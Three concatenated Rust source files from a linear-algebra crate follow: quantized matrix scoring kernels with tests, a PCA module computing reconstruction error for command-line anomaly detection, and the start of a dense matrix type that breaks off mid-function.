                    acc += table[h as usize] * q;
                }
                acc
            }
            QuantizedMatrix::I8 {
                cols, data, scales, ..
            } => {
                let (q_codes, q_scale) = i8_encode_row(query);
                let row = &data[r * cols..(r + 1) * cols];
                finish_i8_dot(kernels::dot_i8_scalar(row, &q_codes), scales[r], q_scale)
            }
        }
    }

    /// Cosine similarity of stored row `r` against a query whose norm
    /// the caller holds, reusing the index's cached **original-f32**
    /// row norm. Degenerate inputs (either norm zero) score 0.0 —
    /// exactly the [`crate::ops::cosine_with_norms`] contract, so
    /// all-zero rows keep their deterministic tie order under every
    /// format.
    #[inline]
    pub fn cosine_row(&self, r: usize, row_norm: f32, query: &[f32], query_norm: f32) -> f32 {
        if row_norm == 0.0 || query_norm == 0.0 {
            return 0.0;
        }
        self.dot_row(r, query) / (row_norm * query_norm)
    }

    /// Validates and pre-processes a query for repeated scoring
    /// against this matrix: the **one width boundary** for the scan
    /// hot paths (every per-row scoring call after this only
    /// debug-asserts), and — for `I8` — the place the query is
    /// symmetrically quantized *once* so the per-candidate inner loop
    /// is pure integer arithmetic.
    ///
    /// # Panics
    ///
    /// Panics if `query.len() != self.cols()`.
    pub fn prepare_query<'q>(&self, query: &'q [f32]) -> PreparedQuery<'q> {
        assert_eq!(
            query.len(),
            self.cols(),
            "query width mismatch: query has {} dims, matrix has {}",
            query.len(),
            self.cols()
        );
        let (i8_codes, i8_scale) = match self {
            QuantizedMatrix::I8 { .. } => {
                let (codes, scale) = i8_encode_row(query);
                (codes, scale)
            }
            _ => (Vec::new(), 0.0),
        };
        PreparedQuery {
            query,
            i8_codes,
            i8_scale,
        }
    }

    /// [`QuantizedMatrix::dot_row`] through a [`PreparedQuery`]: same
    /// scores (bit-identical — for `I8` both paths run the exact
    /// integer sum and the same [`finish_i8_dot`]), but width was
    /// validated once at [`QuantizedMatrix::prepare_query`] and the
    /// `I8` query codes are reused instead of re-quantized per row.
    #[inline]
    pub fn dot_row_prepared(&self, r: usize, pq: &PreparedQuery<'_>) -> f32 {
        self.dot_row_prepared_with(I8Kernel::Arch, r, pq)
    }

    /// [`QuantizedMatrix::dot_row_prepared`] through an explicit i8
    /// kernel (all kernels return identical scores; the knob exists
    /// for the parity suites and the scalar/SIMD bench rows).
    #[inline]
    pub fn dot_row_prepared_with(&self, kernel: I8Kernel, r: usize, pq: &PreparedQuery<'_>) -> f32 {
        debug_assert_eq!(pq.query.len(), self.cols(), "prepared for another width");
        match self {
            QuantizedMatrix::F32(m) => dot(m.row(r), pq.query),
            QuantizedMatrix::F16 { cols, data, .. } => {
                let table = f16_table();
                let row = &data[r * cols..(r + 1) * cols];
                let mut acc = 0.0f32;
                for (&h, &q) in row.iter().zip(pq.query) {
                    acc += table[h as usize] * q;
                }
                acc
            }
            QuantizedMatrix::I8 {
                cols, data, scales, ..
            } => {
                let row = &data[r * cols..(r + 1) * cols];
                finish_i8_dot(
                    kernels::dot_i8_with(kernel, row, &pq.i8_codes),
                    scales[r],
                    pq.i8_scale,
                )
            }
        }
    }

    /// [`QuantizedMatrix::cosine_row`] through a [`PreparedQuery`]
    /// (same zero-norm contract, same scores).
    #[inline]
    pub fn cosine_row_prepared(
        &self,
        r: usize,
        row_norm: f32,
        pq: &PreparedQuery<'_>,
        query_norm: f32,
    ) -> f32 {
        if row_norm == 0.0 || query_norm == 0.0 {
            return 0.0;
        }
        self.dot_row_prepared(r, pq) / (row_norm * query_norm)
    }

    /// Blocked scan primitive: dot products of the row tile
    /// `[row_start, row_start + nrows)` against a block of prepared
    /// queries, written to `out[q * nrows + i]` for query `q` and tile
    /// row `i`.
    ///
    /// The tile is traversed once per *block*, not once per query:
    ///
    /// * `F16` — the tile is decoded through the 256 KiB lookup table
    ///   into `scratch` **once**, then every query runs a sequential
    ///   f32 dot against the L1-resident scratch rows. Element values
    ///   and accumulation order match the per-row table kernel
    ///   exactly, so f16 scores are bit-identical to the unblocked
    ///   path.
    /// * `I8` — each query's codes were quantized once at prepare
    ///   time; the inner loop is the exact-integer kernel, finished by
    ///   [`finish_i8_dot`] — score-identical to [`dot_row`] under
    ///   every [`I8Kernel`].
    /// * `F32` — plain sequential dots ([`dot`]'s order), bit-identical
    ///   to the historical scan.
    ///
    /// # Panics
    ///
    /// Panics if the tile range is out of bounds or `out` is shorter
    /// than `queries.len() · nrows`.
    ///
    /// [`dot_row`]: QuantizedMatrix::dot_row
    pub fn dot_tile(
        &self,
        kernel: I8Kernel,
        row_start: usize,
        nrows: usize,
        queries: &[PreparedQuery<'_>],
        scratch: &mut Vec<f32>,
        out: &mut [f32],
    ) {
        assert!(row_start + nrows <= self.rows(), "tile out of bounds");
        assert!(
            out.len() >= queries.len() * nrows,
            "tile output buffer too small"
        );
        match self {
            QuantizedMatrix::F32(m) => {
                for (q, pq) in queries.iter().enumerate() {
                    let out_q = &mut out[q * nrows..(q + 1) * nrows];
                    for (i, o) in out_q.iter_mut().enumerate() {
                        *o = dot(m.row(row_start + i), pq.query);
                    }
                }
            }
            QuantizedMatrix::F16 { cols, data, .. } => {
                let table = f16_table();
                scratch.clear();
                scratch.extend(
                    data[row_start * cols..(row_start + nrows) * cols]
                        .iter()
                        .map(|&h| table[h as usize]),
                );
                for (q, pq) in queries.iter().enumerate() {
                    let out_q = &mut out[q * nrows..(q + 1) * nrows];
                    for (i, o) in out_q.iter_mut().enumerate() {
                        *o = kernels::dot_f32(&scratch[i * cols..(i + 1) * cols], pq.query);
                    }
                }
            }
            QuantizedMatrix::I8 {
                cols, data, scales, ..
            } => {
                for (q, pq) in queries.iter().enumerate() {
                    let out_q = &mut out[q * nrows..(q + 1) * nrows];
                    for (i, o) in out_q.iter_mut().enumerate() {
                        let r = row_start + i;
                        let row = &data[r * cols..(r + 1) * cols];
                        *o = finish_i8_dot(
                            kernels::dot_i8_with(kernel, row, &pq.i8_codes),
                            scales[r],
                            pq.i8_scale,
                        );
                    }
                }
            }
        }
    }

    /// A new matrix holding the listed rows (in order), copying the
    /// raw compressed representation — no decode/re-encode round trip,
    /// so compaction is lossless in every format.
    ///
    /// # Panics
    ///
    /// Panics if any index is out of range.
    pub fn select_rows(&self, keep: &[usize]) -> Self {
        match self {
            QuantizedMatrix::F32(m) => {
                let mut out = Matrix::zeros(0, m.cols());
                for &r in keep {
                    out.push_row(m.row(r));
                }
                QuantizedMatrix::F32(out)
            }
            QuantizedMatrix::F16 { cols, data, .. } => {
                let mut out = Vec::with_capacity(keep.len() * cols);
                for &r in keep {
                    out.extend_from_slice(&data[r * cols..(r + 1) * cols]);
                }
                QuantizedMatrix::F16 {
                    rows: keep.len(),
                    cols: *cols,
                    data: out,
                }
            }
            QuantizedMatrix::I8 {
                cols, data, scales, ..
            } => {
                let mut out = Vec::with_capacity(keep.len() * cols);
                let mut out_scales = Vec::with_capacity(keep.len());
                for &r in keep {
                    out.extend_from_slice(&data[r * cols..(r + 1) * cols]);
                    out_scales.push(scales[r]);
                }
                QuantizedMatrix::I8 {
                    rows: keep.len(),
                    cols: *cols,
                    data: out,
                    scales: out_scales,
                }
            }
        }
    }
}

/// A query validated (and, for `I8` matrices, symmetrically quantized)
/// once via [`QuantizedMatrix::prepare_query`], ready for repeated
/// per-row or blocked scoring. Preparing per scan — instead of per
/// candidate — is what turns the i8 inner loop into pure integer
/// arithmetic.
#[derive(Debug, Clone)]
pub struct PreparedQuery<'q> {
    /// The original full-precision query.
    query: &'q [f32],
    /// Symmetric i8 codes of the query (empty unless prepared against
    /// an `I8` matrix).
    i8_codes: Vec<i8>,
    /// The query's i8 scale (0.0 unless prepared against `I8`).
    i8_scale: f32,
}

impl<'q> PreparedQuery<'q> {
    /// The full-precision query this was prepared from.
    pub fn query(&self) -> &'q [f32] {
        self.query
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn f16_round_trips_every_bit_pattern() {
        // decode → encode is the identity on all 65536 patterns
        // (NaNs compare by payload class, so skip them).
        for h in 0..=u16::MAX {
            let x = f16_to_f32(h);
            if x.is_nan() {
                continue;
            }
            assert_eq!(f32_to_f16(x), h, "pattern {h:#06x} drifted");
        }
    }

    #[test]
    fn f16_known_values() {
        assert_eq!(f16_to_f32(f32_to_f16(1.0)), 1.0);
        assert_eq!(f16_to_f32(f32_to_f16(-2.5)), -2.5);
        assert_eq!(f16_to_f32(f32_to_f16(0.0)), 0.0);
        assert_eq!(f32_to_f16(65536.0), 0x7C00, "overflow saturates to inf");
        assert_eq!(f32_to_f16(1e-10), 0, "underflow rounds to zero");
        // Smallest subnormal survives.
        let tiny = 2f32.powi(-24);
        assert_eq!(f16_to_f32(f32_to_f16(tiny)), tiny);
        // Round-to-nearest-even at the halfway point: 1 + 2^-11 is
        // exactly between 1.0 and the next f16; even mantissa wins.
        assert_eq!(f16_to_f32(f32_to_f16(1.0 + 2f32.powi(-11))), 1.0);
    }

    #[test]
    fn i8_rows_are_bounded_and_row_local() {
        let row = [0.5f32, -1.0, 0.25, 0.0];
        let (codes, scale) = i8_encode_row(&row);
        assert_eq!(scale, 1.0 / 127.0);
        for (&x, &q) in row.iter().zip(&codes) {
            assert!((x - q as f32 * scale).abs() <= scale / 2.0 + scale * 1e-5);
        }
        let (zero_codes, zero_scale) = i8_encode_row(&[0.0, 0.0]);
        assert_eq!(zero_scale, 0.0);
        assert!(zero_codes.iter().all(|&q| q == 0));
    }

    #[test]
    fn f32_variant_kernels_are_bit_identical_to_the_plain_matrix() {
        let m = Matrix::from_rows(&[&[0.3, -1.7, 2.2], &[1.1, 0.4, -0.9]]);
        let q = QuantizedMatrix::encode(m.clone(), Quantization::F32);
        let query = [0.2f32, 0.7, -0.5];
        for r in 0..2 {
            assert_eq!(q.dot_row(r, &query), dot(m.row(r), &query));
            assert_eq!(q.decode_row(r), m.row(r));
        }
    }

    #[test]
    fn push_row_matches_whole_matrix_encoding() {
        let m = Matrix::from_rows(&[&[0.5, -0.25], &[3.0, 4.0], &[0.0, 0.0]]);
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let whole = QuantizedMatrix::encode(m.clone(), quant);
            let mut incremental = QuantizedMatrix::empty(quant, 2);
            for r in 0..m.rows() {
                incremental.push_row(m.row(r));
            }
            assert_eq!(incremental, whole, "{quant}");
            assert_eq!(incremental.rows(), 3);
            assert_eq!(incremental.cols(), 2);
        }
    }

    #[test]
    fn select_rows_copies_raw_codes() {
        let m = Matrix::from_rows(&[&[1.0, 2.0], &[-3.0, 0.5], &[0.125, 8.0]]);
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let q = QuantizedMatrix::encode(m.clone(), quant);
            let picked = q.select_rows(&[2, 0]);
            assert_eq!(picked.rows(), 2);
            assert_eq!(picked.decode_row(0), q.decode_row(2), "{quant}");
            assert_eq!(picked.decode_row(1), q.decode_row(0), "{quant}");
        }
    }

    #[test]
    fn candidate_bytes_shrink_with_the_format() {
        let m = Matrix::zeros(10, 8);
        let f32b = QuantizedMatrix::encode(m.clone(), Quantization::F32).candidate_bytes();
        let f16b = QuantizedMatrix::encode(m.clone(), Quantization::F16).candidate_bytes();
        let i8b = QuantizedMatrix::encode(m, Quantization::I8).candidate_bytes();
        assert_eq!(f32b, 320);
        assert_eq!(f16b, 160);
        assert_eq!(i8b, 80 + 40);
    }

    #[test]
    fn zero_norm_cosine_is_zero_in_every_format() {
        let m = Matrix::from_rows(&[&[0.0, 0.0], &[1.0, 0.0]]);
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let q = QuantizedMatrix::encode(m.clone(), quant);
            assert_eq!(q.cosine_row(0, 0.0, &[1.0, 0.0], 1.0), 0.0, "{quant}");
            assert_eq!(q.cosine_row(1, 1.0, &[0.0, 0.0], 0.0), 0.0, "{quant}");
            assert_eq!(q.cosine_row(1, 1.0, &[1.0, 0.0], 1.0), 1.0, "{quant}");
        }
    }

    /// Deterministic pseudo-random matrix for kernel-path tests.
    fn test_matrix(rows: usize, cols: usize, seed: u64) -> Matrix {
        let mut state = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
        Matrix::from_fn(rows, cols, |_, _| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            ((state >> 40) as f32 / (1u64 << 24) as f32) - 0.5
        })
    }

    #[test]
    fn prepared_scoring_matches_the_scalar_reference_exactly() {
        let m = test_matrix(7, 13, 3);
        let query: Vec<f32> = test_matrix(1, 13, 99).row(0).to_vec();
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let q = QuantizedMatrix::encode(m.clone(), quant);
            let pq = q.prepare_query(&query);
            for r in 0..q.rows() {
                let want = q.dot_row(r, &query);
                assert_eq!(q.dot_row_prepared(r, &pq), want, "{quant} row {r}");
                for kernel in [I8Kernel::Scalar, I8Kernel::Swar, I8Kernel::Arch] {
                    assert_eq!(
                        q.dot_row_prepared_with(kernel, r, &pq),
                        want,
                        "{quant} row {r} kernel {}",
                        kernel.name()
                    );
                }
            }
        }
    }

    #[test]
    fn dot_tile_matches_per_row_scoring_bit_for_bit() {
        // Ragged row count (not a multiple of any tile), several
        // queries per block, all formats, all kernels.
        let m = test_matrix(23, 16, 7);
        let queries: Vec<Vec<f32>> = (0..5)
            .map(|i| test_matrix(1, 16, 100 + i).row(0).to_vec())
            .collect();
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let q = QuantizedMatrix::encode(m.clone(), quant);
            let prepared: Vec<PreparedQuery> = queries.iter().map(|v| q.prepare_query(v)).collect();
            for kernel in [I8Kernel::Scalar, I8Kernel::Swar, I8Kernel::Arch] {
                let mut scratch = Vec::new();
                // Tiles of 9 leave a ragged final tile of 5 rows.
                for row_start in (0..q.rows()).step_by(9) {
                    let nrows = 9.min(q.rows() - row_start);
                    let mut out = vec![f32::NAN; prepared.len() * nrows];
                    q.dot_tile(kernel, row_start, nrows, &prepared, &mut scratch, &mut out);
                    for (qi, query) in queries.iter().enumerate() {
                        for i in 0..nrows {
                            assert_eq!(
                                out[qi * nrows + i],
                                q.dot_row(row_start + i, query),
                                "{quant}/{} row {} query {qi}",
                                kernel.name(),
                                row_start + i
                            );
                        }
                    }
                }
            }
        }
    }

    #[test]
    fn i8_scoring_is_exact_integer_end_to_end() {
        // A row and query whose codes and scales are exactly
        // representable: row = [2, -4, 6], scale 6/127; query =
        // [1, 1, -1] codes [127, 127, -127], scale 1/127.
        let m = Matrix::from_rows(&[&[2.0, -4.0, 6.0]]);
        let q = QuantizedMatrix::encode(m, Quantization::I8);
        let query = [1.0f32, 1.0, -1.0];
        let pq = q.prepare_query(&query);
        let QuantizedMatrix::I8 { data, scales, .. } = &q else {
            unreachable!()
        };
        let int_dot: i32 = data
            .iter()
            .zip([127i32, 127, -127])
            .map(|(&c, qc)| c as i32 * qc)
            .sum();
        let want = finish_i8_dot(int_dot, scales[0], 1.0 / 127.0);
        assert_eq!(q.dot_row_prepared(0, &pq), want);
        assert_eq!(q.dot_row(0, &query), want);
    }

    #[test]
    fn width_mismatch_panics_uniformly_across_formats() {
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let q = QuantizedMatrix::encode(Matrix::from_rows(&[&[1.0, 2.0, 3.0]]), quant);
            let narrow = [1.0f32, 2.0];
            assert!(
                std::panic::catch_unwind(|| q.dot_row(0, &narrow)).is_err(),
                "{quant} dot_row accepted a narrow query"
            );
            assert!(
                std::panic::catch_unwind(|| q.prepare_query(&narrow)).is_err(),
                "{quant} prepare_query accepted a narrow query"
            );
        }
    }

    #[test]
    fn quantization_parses_and_prints() {
        assert_eq!("f32".parse::<Quantization>().unwrap(), Quantization::F32);
        assert_eq!("f16".parse::<Quantization>().unwrap(), Quantization::F16);
        assert_eq!("i8".parse::<Quantization>().unwrap(), Quantization::I8);
        assert!("int4".parse::<Quantization>().is_err());
        assert_eq!(Quantization::I8.to_string(), "i8");
    }
}
