//! Principal component analysis with the paper's reconstruction error.
//!
//! Section III of the paper detects anomalies by the PCA reconstruction
//! error of a command-line embedding `f(t)`:
//!
//! ```text
//! L_PCA(t) = ‖WᵀW f(t) − f(t)‖²        (Eq. 1)
//! ```
//!
//! where `W (p × q)` projects the `q`-dimensional embedding to `p < q`
//! retained components. `W` is obtained from the SVD of the centered
//! training embeddings; reconstruction-based tuning (Section IV-A)
//! re-fits `W` after each encoder update.

use crate::matrix::Matrix;
use crate::svd::thin_svd;
use serde::{Deserialize, Serialize};

/// A fitted PCA projection.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Pca {
    /// Projection matrix `W`, `p × q` (rows are principal axes).
    components: Matrix,
    /// Per-feature mean used for centering, length `q`.
    mean: Vec<f32>,
    /// Explained-variance ratio per retained component.
    explained: Vec<f32>,
}

impl Pca {
    /// Fits PCA on the rows of `data (n × q)`, keeping `p` components.
    ///
    /// # Panics
    ///
    /// Panics if `p == 0`, `p > q` or `data` has no rows.
    pub fn fit(data: &Matrix, p: usize) -> Self {
        assert!(data.rows() > 0, "PCA needs at least one sample");
        let q = data.cols();
        assert!(p >= 1 && p <= q, "p must be in 1..={q}, got {p}");

        let mean = data.col_mean();
        let centered = center(data, &mean);
        let svd = thin_svd(&centered, p);
        // W rows = top right-singular vectors.
        let components = svd.v.transpose();
        let full = thin_svd(&centered, q);
        let total: f32 = full.sigma.iter().map(|s| s * s).sum();
        let explained = if total > 0.0 {
            svd.sigma.iter().map(|s| s * s / total).collect()
        } else {
            vec![0.0; p]
        };
        Pca {
            components,
            mean,
            explained,
        }
    }

    /// Fits PCA keeping the smallest number of components whose cumulative
    /// explained variance reaches `ratio` (the paper keeps 95%).
    ///
    /// # Panics
    ///
    /// Panics if `ratio` is not in `(0, 1]` or `data` has no rows.
    pub fn fit_variance_ratio(data: &Matrix, ratio: f32) -> Self {
        assert!(
            ratio > 0.0 && ratio <= 1.0,
            "ratio must be in (0, 1], got {ratio}"
        );
        assert!(data.rows() > 0, "PCA needs at least one sample");
        let q = data.cols();
        let mean = data.col_mean();
        let centered = center(data, &mean);
        let svd = thin_svd(&centered, q);
        let total: f32 = svd.sigma.iter().map(|s| s * s).sum();
        let mut p = q;
        if total > 0.0 {
            let mut acc = 0.0;
            for (i, s) in svd.sigma.iter().enumerate() {
                acc += s * s / total;
                if acc >= ratio {
                    p = i + 1;
                    break;
                }
            }
        }
        let components = Matrix::from_fn(p, q, |r, c| svd.v[(c, r)]);
        let explained = svd.sigma[..p]
            .iter()
            .map(|s| if total > 0.0 { s * s / total } else { 0.0 })
            .collect();
        Pca {
            components,
            mean,
            explained,
        }
    }

    /// Number of retained components `p`.
    pub fn n_components(&self) -> usize {
        self.components.rows()
    }

    /// Input dimensionality `q`.
    pub fn input_dim(&self) -> usize {
        self.components.cols()
    }

    /// The projection matrix `W (p × q)`.
    pub fn components(&self) -> &Matrix {
        &self.components
    }

    /// Explained-variance ratio of each retained component.
    pub fn explained_variance_ratio(&self) -> &[f32] {
        &self.explained
    }

    /// Projects one embedding into the retained subspace (`W (x − μ)`).
    ///
    /// # Panics
    ///
    /// Panics if `x.len() != q`.
    pub fn transform(&self, x: &[f32]) -> Vec<f32> {
        assert_eq!(x.len(), self.input_dim(), "transform dimension mismatch");
        let centered: Vec<f32> = x.iter().zip(&self.mean).map(|(v, m)| v - m).collect();
        (0..self.n_components())
            .map(|r| crate::matrix::dot(self.components.row(r), &centered))
            .collect()
    }

    /// Reconstructs an embedding from the retained subspace
    /// (`WᵀW (x − μ) + μ`).
    ///
    /// # Panics
    ///
    /// Panics if `x.len() != q`.
    pub fn reconstruct(&self, x: &[f32]) -> Vec<f32> {
        let proj = self.transform(x);
        let q = self.input_dim();
        let mut out = self.mean.clone();
        for (r, &p) in proj.iter().enumerate() {
            let row = self.components.row(r);
            for c in 0..q {
                out[c] += p * row[c];
            }
        }
        out
    }

    /// The paper's Eq. (1): squared reconstruction error of `x`.
    ///
    /// Always ≥ 0; 0 exactly when `x − μ` lies in the retained subspace.
    ///
    /// # Panics
    ///
    /// Panics if `x.len() != q`.
    pub fn reconstruction_error(&self, x: &[f32]) -> f32 {
        let rec = self.reconstruct(x);
        crate::ops::squared_distance(x, &rec)
    }

    /// Reconstruction error for every row of `data (n × q)`.
    pub fn reconstruction_errors(&self, data: &Matrix) -> Vec<f32> {
        (0..data.rows())
            .map(|r| self.reconstruction_error(data.row(r)))
            .collect()
    }
}

fn center(data: &Matrix, mean: &[f32]) -> Matrix {
    Matrix::from_fn(data.rows(), data.cols(), |r, c| data[(r, c)] - mean[c])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn perfect_subspace_has_zero_error() {
        // Points on the direction (1, 2, 0)·t plus a constant mean offset.
        let data = Matrix::from_fn(20, 3, |r, c| {
            let t = r as f32 - 10.0;
            match c {
                0 => 1.0 * t + 5.0,
                1 => 2.0 * t - 1.0,
                _ => 3.0,
            }
        });
        let pca = Pca::fit(&data, 1);
        for r in 0..data.rows() {
            assert!(pca.reconstruction_error(data.row(r)) < 1e-3);
        }
    }

    #[test]
    fn off_subspace_point_has_positive_error() {
        let data = Matrix::from_fn(20, 3, |r, c| {
            let t = r as f32 - 10.0;
            match c {
                0 => t,
                1 => 2.0 * t,
                _ => 0.0,
            }
        });
        let pca = Pca::fit(&data, 1);
        let outlier = [0.0, 0.0, 9.0];
        let err = pca.reconstruction_error(&outlier);
        assert!(err > 50.0, "outlier error {err} should be large");
    }

    #[test]
    fn errors_are_nonnegative() {
        let data = Matrix::from_fn(15, 4, |r, c| ((r * 3 + c * 5) % 7) as f32);
        let pca = Pca::fit(&data, 2);
        for e in pca.reconstruction_errors(&data) {
            assert!(e >= 0.0);
        }
    }

    #[test]
    fn full_rank_reconstruction_is_exact() {
        let data = Matrix::from_fn(10, 3, |r, c| ((r * 2 + c) % 5) as f32);
        let pca = Pca::fit(&data, 3);
        for r in 0..data.rows() {
            assert!(pca.reconstruction_error(data.row(r)) < 1e-3);
        }
    }

    #[test]
    fn variance_ratio_selects_few_components_for_low_rank_data() {
        // Essentially rank-1 data with tiny noise.
        let data = Matrix::from_fn(30, 5, |r, c| {
            let t = r as f32 / 3.0;
            t * (c as f32 + 1.0) + ((r * 7 + c) % 3) as f32 * 1e-3
        });
        let pca = Pca::fit_variance_ratio(&data, 0.95);
        assert_eq!(pca.n_components(), 1);
    }

    #[test]
    fn variance_ratio_one_keeps_exactness() {
        let data = Matrix::from_fn(12, 4, |r, c| ((r * 5 + c * 2) % 9) as f32);
        let pca = Pca::fit_variance_ratio(&data, 1.0);
        for r in 0..data.rows() {
            assert!(pca.reconstruction_error(data.row(r)) < 1e-2);
        }
    }

    #[test]
    fn transform_dimension_matches_components() {
        let data = Matrix::from_fn(10, 6, |r, c| (r + c) as f32);
        let pca = Pca::fit(&data, 2);
        assert_eq!(pca.transform(data.row(0)).len(), 2);
        assert_eq!(pca.n_components(), 2);
        assert_eq!(pca.input_dim(), 6);
    }

    #[test]
    #[should_panic(expected = "p must be")]
    fn zero_components_panics() {
        let _ = Pca::fit(&Matrix::zeros(3, 3), 0);
    }

    #[test]
    #[should_panic(expected = "at least one sample")]
    fn empty_data_panics() {
        let _ = Pca::fit(&Matrix::zeros(0, 3), 1);
    }
}
