//! Row-major dense `f32` matrices.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::ops::{Add, AddAssign, Index, IndexMut, Mul, Sub, SubAssign};

/// Minimum work (rows × inner dim) before matmul spawns threads.
const PARALLEL_THRESHOLD: usize = 64 * 64;

/// A dense row-major matrix of `f32`.
///
/// ```
/// use linalg::Matrix;
///
/// let a = Matrix::from_rows(&[&[1.0, 2.0], &[3.0, 4.0]]);
/// let b = Matrix::identity(2);
/// assert_eq!(a.matmul(&b), a);
/// ```
#[derive(Clone, PartialEq, Serialize, Deserialize)]
pub struct Matrix {
    rows: usize,
    cols: usize,
    data: Vec<f32>,
}

impl Matrix {
    /// Creates a `rows × cols` matrix of zeros.
    pub fn zeros(rows: usize, cols: usize) -> Self {
        Matrix {
            rows,
            cols,
            data: vec![0.0; rows * cols],
        }
    }

    /// Creates a matrix filled with `value`.
    pub fn full(rows: usize, cols: usize, value: f32) -> Self {
        Matrix {
            rows,
            cols,
            data: vec![value; rows * cols],
        }
    }

    /// The `n × n` identity matrix.
    pub fn identity(n: usize) -> Self {
        let mut m = Matrix::zeros(n, n);
        for i in 0..n {
            m[(i, i)] = 1.0;
        }
        m
    }

    /// Builds a matrix by evaluating `f(row, col)` at every position.
    pub fn from_fn(rows: usize, cols: usize, mut f: impl FnMut(usize, usize) -> f32) -> Self {
        let mut data = Vec::with_capacity(rows * cols);
        for r in 0..rows {
            for c in 0..cols {
                data.push(f(r, c));
            }
        }
        Matrix { rows, cols, data }
    }

    /// Builds a matrix from row slices.
    ///
    /// # Panics
    ///
    /// Panics if rows have differing lengths or the input is empty.
    pub fn from_rows(rows: &[&[f32]]) -> Self {
        assert!(!rows.is_empty(), "from_rows needs at least one row");
        let cols = rows[0].len();
        let mut data = Vec::with_capacity(rows.len() * cols);
        for r in rows {
            assert_eq!(r.len(), cols, "all rows must have equal length");
            data.extend_from_slice(r);
        }
        Matrix {
            rows: rows.len(),
            cols,
            data,
        }
    }

    /// Wraps a flat row-major buffer.
    ///
    /// # Panics
    ///
    /// Panics if `data.len() != rows * cols`.
    pub fn from_vec(rows: usize, cols: usize, data: Vec<f32>) -> Self {
        assert_eq!(data.len(), rows * cols, "buffer length mismatch");
        Matrix { rows, cols, data }
    }

    /// Appends a row, growing the matrix in place (amortized O(cols) —
    /// the buffer doubles like a `Vec`), for incrementally-built
    /// candidate sets such as live vector-index inserts.
    ///
    /// # Panics
    ///
    /// Panics if `row.len() != cols` (a `0 × 0` matrix adopts the first
    /// row's width).
    pub fn push_row(&mut self, row: &[f32]) {
        if self.rows == 0 && self.cols == 0 {
            self.cols = row.len();
        }
        assert_eq!(row.len(), self.cols, "row width mismatch");
        self.data.extend_from_slice(row);
        self.rows += 1;
    }

    /// Number of rows.
    #[inline]
    pub fn rows(&self) -> usize {
        self.rows
    }

    /// Number of columns.
    #[inline]
    pub fn cols(&self) -> usize {
        self.cols
    }

    /// `(rows, cols)`.
    pub fn shape(&self) -> (usize, usize) {
        (self.rows, self.cols)
    }

    /// The underlying row-major buffer.
    #[inline]
    pub fn as_slice(&self) -> &[f32] {
        &self.data
    }

    /// Mutable access to the underlying row-major buffer.
    #[inline]
    pub fn as_mut_slice(&mut self) -> &mut [f32] {
        &mut self.data
    }

    /// Consumes the matrix, returning its buffer.
    pub fn into_vec(self) -> Vec<f32> {
        self.data
    }

    /// Borrow of row `r` as a slice.
    ///
    /// # Panics
    ///
    /// Panics if `r >= rows`.
    #[inline]
    pub fn row(&self, r: usize) -> &[f32] {
        assert!(r < self.rows, "row {r} out of bounds ({})", self.rows);
        &self.data[r * self.cols..(r + 1) * self.cols]
    }

    /// Mutable borrow of row `r`.
    ///
    /// # Panics
    ///
    /// Panics if `r >= rows`.
    #[inline]
    pub fn row_mut(&mut self, r: usize) -> &mut [f32] {
        assert!(r < self.rows, "row {r} out of bounds ({})", self.rows);
        &mut self.data[r * self.cols..(r + 1) * self.cols]
    }

    /// Copies column `c` into a new vector.
    ///
    /// # Panics
    ///
    /// Panics if `c >= cols`.
    pub fn col(&self, c: usize) -> Vec<f32> {
        assert!(c < self.cols, "col {c} out of bounds ({})", self.cols);
        (0..self.rows).map(|r| self[(r, c)]).collect()
    }

    /// Copies columns `[start, start + len)` into a new matrix —
    /// used for per-head slicing in multi-head attention.
    ///
    /// # Panics
    ///
    /// Panics if the range exceeds the column count.
    pub fn col_block(&self, start: usize, len: usize) -> Matrix {
        assert!(start + len <= self.cols, "column block out of bounds");
        let mut out = Matrix::zeros(self.rows, len);
        for r in 0..self.rows {
            out.row_mut(r)
                .copy_from_slice(&self.row(r)[start..start + len]);
        }
        out
    }

    /// Writes `block` into columns `[start, start + block.cols())`.
    ///
    /// # Panics
    ///
    /// Panics if shapes are incompatible.
    pub fn set_col_block(&mut self, start: usize, block: &Matrix) {
        assert_eq!(self.rows, block.rows(), "column block row mismatch");
        assert!(
            start + block.cols() <= self.cols,
            "column block out of bounds"
        );
        for r in 0..self.rows {
            for c in 0..block.cols() {
                self[(r, start + c)] = block[(r, c)];
            }
        }
    }

    /// Copies rows `[start, start + len)` into a new matrix — used for
    /// per-sequence slicing in batched encoder forwards.
    ///
    /// # Panics
    ///
    /// Panics if the range exceeds the row count.
    pub fn row_block(&self, start: usize, len: usize) -> Matrix {
        assert!(start + len <= self.rows, "row block out of bounds");
        Matrix {
            rows: len,
            cols: self.cols,
            data: self.data[start * self.cols..(start + len) * self.cols].to_vec(),
        }
    }

    /// Copies the `nrows × ncols` sub-matrix at `(r0, c0)` — row and
    /// column slicing combined (per-sequence, per-head attention views).
    ///
    /// # Panics
    ///
    /// Panics if the block exceeds either dimension.
    pub fn sub_block(&self, r0: usize, nrows: usize, c0: usize, ncols: usize) -> Matrix {
        assert!(r0 + nrows <= self.rows, "sub block rows out of bounds");
        assert!(c0 + ncols <= self.cols, "sub block cols out of bounds");
        let mut out = Matrix::zeros(nrows, ncols);
        for r in 0..nrows {
            out.row_mut(r)
                .copy_from_slice(&self.row(r0 + r)[c0..c0 + ncols]);
        }
        out
    }

    /// Adds `block` into columns `[start, start + block.cols())`.
    ///
    /// # Panics
    ///
    /// Panics if shapes are incompatible.
    pub fn add_col_block(&mut self, start: usize, block: &Matrix) {
        assert_eq!(self.rows, block.rows(), "column block row mismatch");
        assert!(
            start + block.cols() <= self.cols,
            "column block out of bounds"
        );
        for r in 0..self.rows {
            for c in 0..block.cols() {
                self[(r, start + c)] += block[(r, c)];
            }
        }
    }

    /// Returns the transpose.
    pub fn transpose(&self) -> Matrix {
        let mut out = Matrix::zeros(self.cols, self.rows);
        for r in 0..self.rows {
